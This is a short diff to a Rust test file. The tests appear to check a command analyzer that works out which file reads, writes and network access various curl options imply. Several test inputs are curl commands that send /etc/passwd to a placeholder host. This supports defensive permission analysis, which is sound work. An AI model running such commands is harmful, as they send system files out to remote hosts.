@@ -135,7 +135,7 @@ fn files_that_options_name_are_read_and_written() {
             "curl -F 'a=@/etc/passwd;type=x' https://h/",
             "read /etc/passwd; network unbounded; network https://h:443",
         ),
-        ("curl -H @/etc/passwd https://h/", "read /etc/passwd; network https://h:443"),
+        ("curl -H @/etc/passwd https://h/", "read /etc/passwd; network unbounded; network https://h:443"),
         ("curl -w @/etc/passwd https://h/", "read /etc/passwd; write unbounded; network https://h:443"),
         ("curl -w '%output{x}' https://h/", "write unbounded; network https://h:443"),
         ("curl -b /etc/passwd https://h/", "read /etc/passwd; network https://h:443"),
